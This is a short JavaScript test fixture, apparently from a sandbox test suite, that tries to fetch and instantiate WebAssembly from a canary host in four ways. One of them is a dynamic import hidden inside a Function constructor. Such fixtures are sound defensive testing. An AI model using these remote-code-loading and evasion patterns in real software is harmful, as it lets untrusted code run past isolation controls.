// WebAssembly is compiled from bytes that the job has, and streamed from nowhere.
// ends: answered
import { reached } from "../reached.js";

export default function hostile({ canary }) {
  return reached({
    compile: () => WebAssembly.compileStreaming(fetch(`http://${canary}/compile.wasm`)),
    instantiate: () => WebAssembly.instantiateStreaming(fetch(`http://${canary}/instantiate.wasm`)),
    imported: () => import(`http://${canary}/module.wasm`),
    phase: () => Function("url", "return import.source(url)")(`http://${canary}/source.wasm`),
  });
}
